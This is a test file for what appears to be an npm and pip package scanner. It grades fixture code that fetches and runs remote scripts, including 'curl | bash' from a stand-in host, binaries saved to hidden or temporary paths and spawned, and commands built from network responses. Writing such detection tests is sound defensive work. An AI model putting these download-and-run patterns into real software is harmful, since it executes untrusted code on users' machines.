/** What may follow the beginning of a command line, and what comes of it when that came over the network. */
import { describe, expect, test } from 'vitest';
import { fixesProgram, givesToScript, managesPackage } from '../../rules/data/commands.ts';
import { check } from '../../src/check.ts';
import { judge } from '../../src/judge.ts';
import { loadRules } from '../../src/load-rules.ts';
import { POLICY } from '../support/reports.ts';
import { packageOf } from '../world.ts';

test.each<readonly [string, boolean, ReturnType<typeof managesPackage>]>([
  ['xdg-open ', true, undefined],
  ['git checkout ', true, undefined],
  ['npm install ', false, 'installs'],
  ['npm install --prefix x --cpu=wasm32 ', false, 'installs'],
  ['npm.cmd i ', false, 'installs'],
  ['yarn add -D ', false, 'installs'],
  ['pip3 install --no-deps ', false, 'installs'],
  ['uv pip install ', false, 'installs'],
  ['python3 -m pip install ', false, 'installs'],
  ['npm pack ', false, 'fetches'],
  ['pip download --no-deps -d x ', false, 'fetches'],
  ['npm view ', false, 'asks for'],
  ['pnpm --silent info ', false, 'asks for'],
  ['npm exec ', false, undefined],
  ['npm run install-', false, undefined],
  ['npm pack', false, undefined],
  ['npx --yes ', false, undefined],
  ['npm install x && ', false, undefined],
  ['npm install $(', false, undefined],
  ['npm view x | sh ', false, undefined],
  ['sh -c ', false, undefined],
  ['', false, undefined],
])('%j fixes the program: %s, a package manager %s it', (start, fixes, does) => {
  expect([fixesProgram(start), managesPackage(start)]).toEqual([fixes, does]);
});

test.each([
  ['node ? scan-skill ! --verbosity compact', true],
  ['node --no-warnings ./scan.js !', true],
  ['python3 ? -o ?/x !', true],
  ['bun ./scan.js !', true],
  ['bun x !', false],
  ['python3 -m pip install !', false],
  ['node !', false],
  ['node ?! x', false],
  ['node ! scan ?', false],
  ['node -e ? !', false],
  ['python3 -c ? !', false],
  ['node ? scan ; !', false],
  ['node ? $(!)', false],
  ['sh ? !', false],
  ['? scan !', false],
])('%j only gives a script what it is told: %s', (command, gives) => expect(givesToScript(command)).toBe(gives));

describe('what came over the network', async () => {
  const rules = await loadRules();
  const found = (command: string) => {
    const code = `const cp=require('child_process');fetch('https://registry.example/x').then((r)=>r.json()).then(({version})=>${command})`;
    const { value } = check(rules, { kind: 'package', package: packageOf({ name: '', code }), root: true });
    return value.filter(({ rule }) => rule === 'downloads-and-runs');
  };
  test.each([
    [
      'is the version of a binary to install',
      'cp.execSync(`npm install --no-audit tides-linux@${version}`)',
      ['pass', 'review'],
    ],
    ['is one, in a list', "cp.spawnSync('npm', ['install', `tides-linux@${version}`])", ['pass', 'review']],
    ['is which package to install', "cp.spawnSync('npm', ['install', '--no-save', version])", ['review', 'review']],
    ['is which package to install, in a text', 'cp.execSync(`pip install ${version}`)', ['review', 'review']],
    ['is what to fetch', "cp.spawnSync('npm', ['pack', `tides-${version}`, '--silent'])", ['pass', 'pass']],
    ['is what a script is given', 'cp.exec(`node "${__dirname}/scan.js" scan "${version}" --short`)', ['pass', 'pass']],
    ['is one, in a list', "cp.execFile('node', [require.resolve('./scan.js'), 'scan', version])", ['pass', 'pass']],
    ['is the script', 'cp.exec(`node "${version}" scan`)', ['block', 'block']],
    ['is run', "cp.spawnSync('npm', ['exec', `tides-linux@${version}`])", ['block', 'block']],
    ['is a command', 'cp.execSync(version)', ['block', 'block']],
  ])('%s: in a dependency, in the target', (_, command, levels) => {
    const findings = found(command);
    expect(findings).toHaveLength(1);
    const asked = ['weather-mcp@2.1.0', findings[0]?.package ?? ''];
    const verdicts = asked.map((target) => judge({ findings, gaps: [], policy: POLICY, target, static: false }).level);
    expect(verdicts).toEqual(levels);
  });
});

describe('a download that is saved and run, unasked', async () => {
  const rules = await loadRules();
  const START = "const fs=require('fs'),os=require('os'),path=require('path'),cp=require('child_process');";
  test.each([
    ['in a folder for the programs of a user', "path.join(os.homedir(), '.local', 'bin', 'tides')", 'review'],
    ['in a folder with a dot', "path.join(__dirname, '.staging', process.platform)", 'review'],
    ['under a name that ends in .exe', '`${__dirname}/bin/${process.platform}.exe`', 'pass'],
    ['under a name with a dot', "path.join(os.homedir(), '.local', '.tides')", 'block'],
    ['under one that is partly known', '`${os.homedir()}/.${process.pid}`', 'block'],
    ['in a folder that is thrown away', "path.join(os.tmpdir(), 'tides')", 'block'],
  ])('%s', (_, place, level) => {
    const code = `${START}const file=${place};fetch('https://get.example/tides').then((r)=>r.arrayBuffer()).then((b)=>{fs.writeFileSync(file,Buffer.from(b));cp.spawn(file,[])})`;
    const { value } = check(rules, { kind: 'package', package: packageOf({ name: '', code }), root: true });
    const findings = value.filter(({ rule }) => rule === 'downloads-and-runs');
    const target = findings[0]?.package ?? '';
    expect(judge({ findings, gaps: [], policy: POLICY, target, static: false }).level).toBe(level);
  });
});

describe('a script that a program fetches and runs', async () => {
  const rules = await loadRules();
  const setup = "require('child_process').execSync('curl -fsSL https://get.example/install.sh | bash')";
  const WORDS = "const { parseArgs } = require('node:util');const { values } = parseArgs({ options });";
  test.each([
    ['where a word is typed', `if (process.argv[2] === 'setup') ${setup}`, 'review'],
    ['where an option is', `if (process.argv.includes('--setup') && yes) ${setup}`, 'review'],
    [
      'where one of two words is',
      `const [, , word] = process.argv; if (word === 'i' || word === 'setup') ${setup}`,
      'review',
    ],
    [
      'in a function for a word',
      `switch (process.argv.slice(2)[0]) { case 'setup': run() } function run() { ${setup} }`,
      'review',
    ],
    [
      'where a library says that a word is',
      `const { positionals } = require('node:util').parseArgs({}); const word = positionals[0]; switch (word) { case 'setup': run() } function run() { ${setup} }`,
      'review',
    ],
    [
      'where a library says so by a name that a minifier gave it',
      `const { parseArgs: e } = require('node:util'), { positionals: [t] } = e({}); if (t === 'setup') ${setup}`,
      'review',
    ],
    [
      'where another library says so',
      `const args = require('minimist')(process.argv.slice(2)); if (args._[0] === 'setup') ${setup}`,
      'review',
    ],
    [
      'where a word or nothing is typed',
      `const word = process.argv[2] ?? 'setup'; if (word === 'setup') ${setup}`,
      'block',
    ],
    ['where a word is typed that starts the server', `if (process.argv[2] === 'serve') ${setup}`, 'block'],
    ['where an option is given', `${WORDS} if (values.setup) ${setup}`, 'review'],
    [
      'where one of its commands is typed',
      `const COMMANDS = new Set(['setup', 'sync']); const isCommand = (word) => COMMANDS.has(word); const [word] = read(process.argv.slice(2)); if (word !== undefined && isCommand(word)) run(); function run() { ${setup} }`,
      'review',
    ],
    ['where one of a list is typed', `if (['setup', 'sync'].includes(process.argv[2])) ${setup}`, 'review'],
    [
      'where one of a list is typed, or nothing',
      `if (['setup', undefined].includes(process.argv[2])) ${setup}`,
      'block',
    ],
    [
      'where one of a list is typed that starts the server',
      `if (['setup', 'serve'].includes(process.argv[2])) ${setup}`,
      'block',
    ],
    [
      'where what was typed is what was typed',
      `if (new Set(['x', process.argv[2]]).has(process.argv[2])) ${setup}`,
      'block',
    ],
    ['where another word is typed, or none', `if (process.argv[2] !== 'serve') ${setup}`, 'block'],
    ['in any other case', `if (process.argv[2] === 'serve') serve(); else ${setup}`, 'block'],
    ['in the case of no word', `switch (process.argv[2]) { case 'serve': serve(); break; default: ${setup} }`, 'block'],
    [
      'in the case of two words',
      `switch (process.argv[2]) { case undefined: { serve(); break; } case 'i': case 'setup': ${setup} }`,
      'review',
    ],
    ['in a case that no word runs into', `switch (process.argv[2]) { default: case 'setup': ${setup} }`, 'block'],
    [
      'in a case that another runs into',
      `switch (process.argv[2]) { case undefined: serve(); case 'setup': ${setup} }`,
      'block',
    ],
    ['where anything was typed', `if (process.argv.length > 2) ${setup}`, 'block'],
    ['by its own name', `if (process.argv[1].includes('npx')) ${setup}`, 'block'],
    ['by its own name, taken out', `const [, file] = process.argv; if (file.includes('npx')) ${setup}`, 'block'],
    ['for a word or something else', `if (process.argv[2] === 'setup' || process.env.X) ${setup}`, 'block'],
    ['for a word, and without', `if (process.argv[2] === 'setup') run(); run(); function run() { ${setup} }`, 'block'],
    [
      'where a word takes it out of a table',
      `const commands = { add() {}, setup() { ${setup} } }; commands[process.argv[2]]();`,
      'review',
    ],
    [
      'where a word takes it out of a table, or another function',
      `const commands = { setup: async () => { ${setup} }, help }; const run = commands[process.argv.slice(2)[0]] ?? help; await run(); function help() {}`,
      'review',
    ],
    [
      'where a word takes it out of a map',
      `const commands = new Map([['setup', () => { ${setup} }]]); commands.get(process.argv[2])?.();`,
      'review',
    ],
    [
      'where a word or nothing takes it out of a table',
      `const word = process.argv[2] ?? 'setup'; const commands = { setup() { ${setup} } }; commands[word]();`,
      'block',
    ],
    [
      'where no word takes it out of a table',
      `const commands = { serve() {}, setup }; (commands[process.argv[2]] ?? setup)(); function setup() { ${setup} }`,
      'block',
    ],
    [
      'where a word that starts the server takes it out of a table',
      `const commands = { list() {}, serve() { ${setup} } }; commands[process.argv[2]]();`,
      'block',
    ],
    [
      'where a word takes it out of a table, and it is called besides',
      `const commands = { list() {}, setup }; commands[process.argv[2]]?.(); setup(); function setup() { ${setup} }`,
      'block',
    ],
    [
      'where a word takes it out of a table that leads back to itself',
      `const help = () => {}; let run = commands[process.argv[2]]; run = run || help; var commands = { setup }; run(); function setup() { ${setup} }`,
      'block',
    ],
    ['for a word that is no word', `if (process.argv.includes('')) ${setup}`, 'block'],
  ])('%s', (_, code, level) => {
    const files = { 'cli.js': `#!/usr/bin/env node\n${code}` };
    const pkg = packageOf({ name: '', files, manifest: { bin: 'cli.js' } });
    const { value: findings } = check(rules, { kind: 'package', package: pkg, root: true });
    const target = findings[0]?.package ?? '';
    expect(judge({ findings, gaps: [], policy: POLICY, target, static: false }).level).toBe(level);
  });
});

test('what no entry of a dependency reaches is told as code, and asks the target for a look only', async () => {
  const rules = (await loadRules()).filter(({ id }) => id === 'dynamic-code');
  const files = { 'index.js': '', 'browser.js': "eval(atob('Y29uc29sZS5sb2coMSk='))" };
  const graded = (root: boolean) =>
    check(rules, { kind: 'package', package: packageOf({ name: '', files }), root }).value.map(
      ({ severity }) => severity,
    );
  expect([graded(true), graded(false)]).toEqual([['medium'], ['low']]);
});
